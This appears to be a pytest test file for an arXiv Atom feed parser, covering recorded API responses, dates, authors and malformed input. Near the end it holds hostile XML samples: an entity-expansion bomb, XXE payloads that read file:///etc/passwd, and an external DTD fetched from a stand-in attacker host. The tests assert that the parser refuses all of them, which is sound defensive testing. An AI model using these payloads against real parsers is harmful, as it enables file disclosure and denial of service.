"""The Atom parser against every recorded arXiv API response, both serializations."""

from __future__ import annotations

import re
import xml.etree.ElementTree as StdET
from datetime import datetime, timezone
from pathlib import Path

import pytest

from arxiv_radar.errors import ArxivAPIError, FeedParseError
from arxiv_radar.model import Author, Version
from arxiv_radar.sources import AtomFeed, parse_feed

NS = {
    "a": "http://www.w3.org/2005/Atom",
    "arxiv": "http://arxiv.org/schemas/atom",
    "os": "http://a9.com/-/spec/opensearch/1.1/",
}


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=timezone.utc)


def api_files(fixtures: Path) -> list[Path]:
    files = sorted((fixtures / "arxiv-api").glob("*/*.xml"))
    assert {p.parent.name for p in files} == {"2016", "2026"}
    return files


def load(fixtures: Path, year: str, prefix: str) -> bytes:
    pattern = prefix if prefix.endswith(".xml") else prefix + "*.xml"
    (path,) = (fixtures / "arxiv-api" / year).glob(pattern)
    return path.read_bytes()


def feed_xml(entries: str, total: int = 1) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom"'
        ' xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/">'
        f"<opensearch:totalResults>{total}</opensearch:totalResults>"
        "<opensearch:startIndex>0</opensearch:startIndex>"
        "<opensearch:itemsPerPage>10</opensearch:itemsPerPage>"
        f"{entries}</feed>"
    ).encode("utf-8")


def entry_xml(
    id_="http://arxiv.org/abs/2401.00001v1",
    title="A title",
    published="2024-01-01T00:00:00Z",
    extra="",
) -> str:
    return (
        f"<entry><id>{id_}</id><title>{title}</title><summary>Abstract.</summary>"
        f"<published>{published}</published><updated>{published}</updated>"
        f'<author><name>A. Author</name></author><category term="cs.LG"/>{extra}</entry>'
    )


# --- every recorded response ------------------------------------------------------------


def _naive(text: str | None) -> str:
    return re.sub(r"\s+", " ", text or "").strip()


def _naive_time(text: str) -> datetime:
    # Independent of the parser: strptime with an explicit offset.
    text = text.strip().replace("Z", "+00:00")
    return datetime.strptime(text, "%Y-%m-%dT%H:%M:%S%z").astimezone(timezone.utc)


def test_every_fixture_matches_a_naive_elementtree_reading(fixtures):
    files = api_files(fixtures)
    checked_entries = 0
    for path in files:
        data = path.read_bytes()
        root = StdET.fromstring(data)
        entries = root.findall("a:entry", NS)
        is_error = any("/api/errors" in e.findtext("a:id", "", NS) for e in entries)
        if is_error:
            with pytest.raises(ArxivAPIError):
                parse_feed(data)
            continue
        feed = parse_feed(data)
        assert isinstance(feed, AtomFeed)
        assert feed.total_results == int(root.findtext("os:totalResults", None, NS)), path.name
        assert feed.start_index == int(root.findtext("os:startIndex", None, NS)), path.name
        assert feed.items_per_page == int(root.findtext("os:itemsPerPage", None, NS)), path.name
        assert len(feed.papers) == len(entries), path.name
        for paper, entry in zip(feed.papers, entries):
            where = f"{path.name}: {paper.id}"
            m = re.fullmatch(r"https?://arxiv\.org/abs/(.+)v(\d+)", entry.findtext("a:id", "", NS))
            assert m, where
            assert (paper.id, paper.version) == (m.group(1), int(m.group(2))), where
            assert paper.versioned_id == f"{m.group(1)}v{m.group(2)}"
            assert paper.title == _naive(entry.findtext("a:title", None, NS)), where
            assert paper.abstract == _naive(entry.findtext("a:summary", None, NS)), where
            assert "\n" not in paper.title + paper.abstract and "  " not in paper.abstract
            expected_authors = tuple(
                Author(
                    _naive(a.findtext("a:name", None, NS)),
                    tuple(_naive(x.text) for x in a.findall("arxiv:affiliation", NS)),
                )
                for a in entry.findall("a:author", NS)
            )
            assert paper.authors == expected_authors, where
            primary = entry.find("arxiv:primary_category", NS).get("term")
            terms = [c.get("term") for c in entry.findall("a:category", NS)]
            assert paper.primary_category == primary, where
            assert paper.categories[0] == primary, where
            assert set(paper.categories) == set(terms) | {primary}, where
            assert len(paper.categories) == len(set(paper.categories)), where
            published = _naive_time(entry.findtext("a:published", None, NS))
            updated = _naive_time(entry.findtext("a:updated", None, NS))
            assert paper.published == published and paper.updated == updated, where
            assert paper.published.tzinfo is timezone.utc
            assert paper.versions[-1] == Version(paper.version, updated), where
            assert paper.versions[0] == Version(1, published), where
            for field, tag in (
                ("comment", "arxiv:comment"),
                ("journal_ref", "arxiv:journal_ref"),
                ("doi", "arxiv:doi"),
            ):
                raw = entry.findtext(tag, None, NS)
                assert getattr(paper, field) == (_naive(raw) if raw is not None else None), where
            checked_entries += 1
    assert checked_entries == 142  # 18 non-error files, 0 to 15 entries each


def test_opensearch_counts_of_an_empty_result(fixtures):
    feed = parse_feed(load(fixtures, "2026", "id_0000.0000_"))
    assert (feed.total_results, feed.start_index, feed.items_per_page, feed.papers) == (0, 0, 100, [])


@pytest.mark.parametrize("name", ["id_abc_"])
def test_error_feed_raises_with_arxivs_message(fixtures, name):
    with pytest.raises(ArxivAPIError, match="incorrect id format for abc"):
        parse_feed(load(fixtures, "2026", name))


def test_2016_error_feed_from_the_manual_raises():
    # The 2016-era error feed (arXiv sent it with HTTP 400), copied from the API user manual.
    data = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/">
  <opensearch:totalResults>1</opensearch:totalResults>
  <entry xmlns="http://www.w3.org/2005/Atom">
    <id xmlns="http://www.w3.org/2005/Atom">http://arxiv.org/api/errors#incorrect_id_format_for_1234.12345</id>
    <title xmlns="http://www.w3.org/2005/Atom">Error</title>
    <summary xmlns="http://www.w3.org/2005/Atom">incorrect id format for 1234.12345</summary>
    <updated xmlns="http://www.w3.org/2005/Atom">2007-10-12T00:00:00-04:00</updated>
  </entry>
</feed>"""
    with pytest.raises(ArxivAPIError) as info:
        parse_feed(data)
    assert "incorrect id format for 1234.12345" in str(info.value)


# --- entries written out by hand ---------------------------------------------------------


def test_2016_entry_by_hand(fixtures):
    feed = parse_feed(load(fixtures, "2016", "search_query=au_del_maestro_AND_ti_checkerboard"))
    assert (feed.total_results, feed.start_index, feed.items_per_page) == (1, 0, 10)
    (p,) = feed.papers
    assert p.id == "cond-mat/0603029" and p.version == 1
    assert p.title == (
        "From stripe to checkerboard order on the square lattice in the presence of quenched disorder"
    )
    assert p.abstract.startswith("We discuss the effects of quenched disorder on a model of charge")
    assert "wave (CDW) ordering" in p.abstract
    assert p.abstract.endswith("scanning tunneling microscopy experiments.")
    assert p.authors == (
        Author("Adrian Del Maestro"),
        Author("Bernd Rosenow"),
        Author("Subir Sachdev"),
    )
    assert p.categories == ("cond-mat.str-el", "cond-mat.supr-con")
    assert p.primary_category == "cond-mat.str-el"
    assert p.published == p.updated == utc(2006, 3, 2, 2, 22, 45)
    assert p.versions == (Version(1, utc(2006, 3, 2, 2, 22, 45)),)
    assert p.comment == "10 pages, 11 figures; added reference"
    assert p.journal_ref == "Phys. Rev. B 74, 024520 (2006)"
    assert p.doi == "10.1103/PhysRevB.74.024520"


def test_2026_old_style_id_with_affiliation(fixtures):
    (p,) = parse_feed(load(fixtures, "2026", "id_hep-ex_0406020v1_")).papers
    assert (p.id, p.version) == ("hep-ex/0406020", 1)
    assert p.title == "Sparticle Reconstruction at LHC"
    assert p.authors == (Author("Alessia Tricomi", ("for the ATLAS and CMS Collaborations",)),)
    assert p.categories == ("hep-ex",) and p.primary_category == "hep-ex"
    assert p.published == utc(2004, 6, 7, 11, 8, 22)
    assert p.comment.startswith("Presented at XXXIX Rencontres de Moriond")
    assert p.journal_ref is None and p.doi is None


def test_2026_affiliations_for_every_author(fixtures):
    (p,) = parse_feed(load(fixtures, "2026", "id_astro-ph_0601001_")).papers
    assert p.id == "astro-ph/0601001"
    assert [(a.name, a.affiliations) for a in p.authors] == [
        ("Andrew Gould", ("Ohio State",)),
        ("Susan Dorsher", ("Ohio State",)),
        ("B. Scott Gaudi", ("CfA",)),
        ("Andrzej Udalski", ("Warsaw University Observatory",)),
    ]
    # &amp; and &lt; in the XML come back as the characters they stand for.
    assert "Gould & Morgan (2003)" in p.abstract and "V_max<17.5" in p.abstract
    assert p.journal_ref == "ActaAstron.56:1-50,2006"


def test_2026_later_version_has_both_dates(fixtures):
    papers = {p.id: p for p in parse_feed(load(fixtures, "2026", "q_testing_s0_m15_")).papers}
    p = papers["2005.14124"]
    assert p.version == 2
    assert p.published == utc(2020, 5, 28, 16, 19, 50)
    assert p.updated == utc(2020, 7, 16, 8, 15, 48)
    assert p.versions == (Version(1, p.published), Version(2, p.updated))
    assert p.categories == ("cs.SE", "cs.CR", "cs.LG")
    assert p.doi == "10.1145/3395363.3397376"
    assert p.journal_ref.startswith("In Proc. ACM SIGSOFT International Symposium")


def test_title_zero_is_kept(fixtures):
    (p,) = parse_feed(load(fixtures, "2026", "id_2104.12255v1_")).papers
    assert p.title == "0" and p.comment is None


def test_one_of_two_ids_found(fixtures):
    feed = parse_feed(load(fixtures, "2026", "id_0808.05394_1707.08567_"))
    assert [p.id for p in feed.papers] == ["1707.08567"]
    assert len(feed.papers[0].authors) == 34
    assert feed.papers[0].authors[-2].name == "Dirk Wübben"


def test_2016_and_2026_pages_agree_on_the_same_paper_shape(fixtures):
    # 2016 declares namespaces on each element and uses http links; 2026 the opposite.
    old = parse_feed(load(fixtures, "2016", "search_query=au_del_maestro.xml"))
    new = parse_feed(load(fixtures, "2026", "q_testing_s10_m10_"))
    for p in old.papers + new.papers:
        assert p.id and p.title and p.abstract and p.authors and p.primary_category
        assert p.published.tzinfo is timezone.utc


# --- synthetic edge cases ----------------------------------------------------------------


def test_several_affiliations_per_author_and_wrapped_text():
    extra = (
        "<author><name>\n  B.  Second </name>"
        "<arxiv:affiliation>MIT</arxiv:affiliation>"
        "<arxiv:affiliation>  CERN\n  Geneva </arxiv:affiliation>"
        "<arxiv:affiliation> </arxiv:affiliation></author>"
        '<category term="stat.ML"/><category term="cs.LG"/>'
        '<arxiv:primary_category term="stat.ML"/>'
    )
    title = "A\n   wrapped\ttitle  "
    (p,) = parse_feed(feed_xml(entry_xml(title=title, extra=extra))).papers
    assert p.title == "A wrapped title"
    assert p.authors[1] == Author("B. Second", ("MIT", "CERN Geneva"))
    # primary first, then the cross-lists in feed order, no duplicate.
    assert p.categories == ("stat.ML", "cs.LG")


def test_html_and_pipes_in_titles_are_text():
    title = "&lt;script&gt;alert(1)&lt;/script&gt; | a|b &amp;amp; <![CDATA[<b>x</b>]]>"
    (p,) = parse_feed(feed_xml(entry_xml(title=title))).papers
    assert p.title == "<script>alert(1)</script> | a|b &amp; <b>x</b>"


def test_offsets_become_utc():
    (p,) = parse_feed(feed_xml(entry_xml(published="2007-02-27T16:02:02-05:00"))).papers
    assert p.published == utc(2007, 2, 27, 21, 2, 2)
    assert p.published.utcoffset().total_seconds() == 0


def test_versionless_id():
    (p,) = parse_feed(feed_xml(entry_xml(id_="http://arxiv.org/abs/hep-ex/0307015"))).papers
    assert (p.id, p.version) == ("hep-ex/0307015", 1)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE feed [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title></feed>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&xxe;</title></feed>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE feed SYSTEM "http://attacker.invalid/evil.dtd">
<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE_FILE, XXE_NETWORK], ids=["bomb", "xxe-file", "xxe-dtd"])
def test_hostile_xml_is_refused(data):
    with pytest.raises(FeedParseError, match="refused XML with a DTD"):
        parse_feed(data)


def test_undeclared_entity_is_a_parse_error():
    with pytest.raises(FeedParseError, match="malformed XML"):
        parse_feed(feed_xml(entry_xml(title="&xxe;")))


@pytest.mark.parametrize("cut", [0.25, 0.5, 0.9, 0.999])
def test_truncated_real_response(fixtures, cut):
    data = load(fixtures, "2026", "q_testing_s0_m10_")
    with pytest.raises(FeedParseError, match="truncated or garbled"):
        parse_feed(data[: int(len(data) * cut)])


@pytest.mark.parametrize(
    "data, message",
    [
        (b"", "empty response body"),
        (b"   \n", "empty response body"),
        (b"<html><body>Rate limited</body></html>", "not an Atom feed"),
        (b"\x00\x01garbage", "malformed XML"),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'>\x0b</feed>", "malformed XML"),
    ],
)
def test_garbage(data, message):
    with pytest.raises(FeedParseError, match=message):
        parse_feed(data)


@pytest.mark.parametrize(
    "entry, message",
    [
        (entry_xml(id_="http://example.org/not-arxiv"), "not an arXiv identifier"),
        (entry_xml(id_=""), "has no <id>"),
        (entry_xml(published="yesterday"), "not a date"),
        ("<entry><id>http://arxiv.org/abs/2401.00001v1</id><title>t</title></entry>", "no <published>"),
    ],
)
def test_malformed_entries(entry, message):
    with pytest.raises(FeedParseError, match=message):
        parse_feed(feed_xml(entry))


def test_bad_counter():
    data = feed_xml("", total=1).replace(b">1<", b">many<")
    with pytest.raises(FeedParseError, match="totalResults"):
        parse_feed(data)


BOMB_IN_EBCDIC = (
    '<?xml version="1.0" encoding="cp037"?>\n<!DOCTYPE feed [<!ENTITY a "aaaaaaaaaa">]>\n'
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>&a;</title></feed>'
).encode("cp037")


@pytest.mark.parametrize("data", [
    BOMB_IN_EBCDIC,
    b'<?xml version="1.0"?>\n<!--x--><!DOCTYPE feed [<!ENTITY a "b">]><feed xmlns="http://www.w3.org/2005/Atom"/>',
    b'<?xml version="1.0"?>\n<!DOCTYPE feed SYSTEM "file:///etc/passwd"><feed xmlns="http://www.w3.org/2005/Atom"/>',
    "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE f [<!ENTITY a 'b'>]><feed/>".encode("utf-16"),
], ids=["ebcdic-declared", "after-comment", "external-dtd", "utf-16"])
def test_a_dtd_is_refused_whatever_the_encoding_or_position(data):
    # The fast parser is used only where no DTD can hide; these all reach the strict path, which
    # refuses the DTD (or, for EBCDIC, which expat cannot read at all, the whole document).
    with pytest.raises(FeedParseError, match="refused|malformed"):
        parse_feed(data)
    from arxiv_radar.sources.fields import _plainly_safe

    assert not _plainly_safe(data)


def test_comments_and_cdata_still_take_the_fast_path():
    from arxiv_radar.sources.fields import _plainly_safe

    assert _plainly_safe(b'<?xml version="1.0" encoding="UTF-8"?><!-- c --><feed><![CDATA[x]]></feed>')
    assert not _plainly_safe(b'<?xml version="1.0" encoding="latin-1"?><feed/>')
    assert not _plainly_safe(b"<feed><!ELEMENT x ANY></feed>")
